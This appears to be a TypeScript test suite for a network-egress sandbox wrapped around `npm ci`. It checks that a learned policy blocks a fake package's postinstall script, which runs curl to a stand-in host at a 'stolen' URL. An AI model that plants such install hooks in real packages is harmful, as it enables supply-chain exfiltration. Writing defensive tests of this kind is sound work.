/** `run -- npm ci`: what an installation needs is learnt; a script of a package that calls elsewhere is stopped and named. */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { curl } from './attempt.ts';
import { BOUHEKI } from './bouheki.ts';
import { type Ended, folder, run, runWithin, startNetwork, stopNetwork, succeeded, USER } from './guest.ts';

/** Milliseconds. */
const PATIENCE = 300_000;
const PORT = '4873';

const place = folder();
const packages = join(place, 'packages');
const project = join(place, 'project');
const policy = join(project, 'egress.yaml');
let registry: ChildProcess;

/** Puts a version of the only package into the registry. */
function publish(version: string, scripts: Record<string, string>): void {
  const source = join(place, 'source');
  mkdirSync(source, { recursive: true });
  writeFileSync(join(source, 'package.json'), JSON.stringify({ name: 'left-leg', version, scripts }));
  succeeded(runWithin(PATIENCE, 'npm', 'pack', source, '--pack-destination', packages, '--silent'));
}

/** Has the project need this version, and locks that. */
function lock(version: string): void {
  writeFileSync(
    join(project, 'package.json'),
    JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { 'left-leg': version } }),
  );
  rmSync(join(project, 'package-lock.json'), { force: true });
  succeeded(inProject('npm install --package-lock-only --silent'));
  succeeded(run('chown', '-R', `${USER}:${USER}`, project));
}

function inProject(script: string): Ended {
  return runWithin(PATIENCE, 'sh', '-c', `cd ${project} && ${script}`);
}

/** `npm ci` under bouheki, by sudo. */
function install(...options: string[]): Ended {
  const sudo = ['env', `SUDO_UID=${USER}`, 'SUDO_USER=somebody'];
  return runWithin(
    PATIENCE,
    ...sudo,
    ...BOUHEKI,
    'run',
    ...options,
    '--',
    'sh',
    '-c',
    `cd ${project} && npm ci`,
  );
}

before(async () => {
  startNetwork();
  chmodSync(place, 0o755);
  for (const each of [packages, project]) mkdirSync(each);
  if (run('getent', 'passwd', String(USER)).status !== 0)
    appendFileSync('/etc/passwd', `ada:x:${USER}:${USER}::/:/bin/sh\n`);
  const settings = {
    registry: `http://127.0.0.1:${PORT}/`,
    cache: join(project, '.cache'),
    audit: 'false',
    fund: 'false',
    'update-notifier': 'false',
  };
  const lines = Object.entries(settings).map(([key, value]) => `${key}=${value}\n`);
  writeFileSync(join(project, '.npmrc'), lines.join(''));
  publish('1.0.0', {});
  publish('1.0.1', { postinstall: `${curl('http://10.0.9.9/stolen').join(' ')} || true` });
  registry = spawn(process.execPath, [join(import.meta.dirname, 'npm-registry.js'), packages, PORT], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await once(registry.stdout!, 'data');
});

after(() => {
  registry.kill();
  stopNetwork();
});

test('what an installation connects to becomes its policy', () => {
  lock('1.0.0');
  const { status, stderr } = install('--learn', policy);
  assert.equal(status, 0, stderr);
  assert.ok(existsSync(join(project, 'node_modules/left-leg/package.json')));
  assert.match(readFileSync(policy, 'utf8'), /cidr: \[127\.0\.0\.1\], port: \[4873\], protocol: \[tcp\]/);
});

test('held to it, the script of a new version that calls elsewhere is stopped and named, and the rest is installed', () => {
  lock('1.0.1');
  const { status, stderr } = install('--policy', policy, '--fail-on-denied');
  assert.equal(status, 1, stderr);
  assert.match(stderr, /^denied +\/usr\/bin\/curl +10\.0\.9\.9:80\/tcp +1$/m);
  const installed = JSON.parse(readFileSync(join(project, 'node_modules/left-leg/package.json'), 'utf8')) as {
    version: string;
  };
  assert.equal(installed.version, '1.0.1');
});
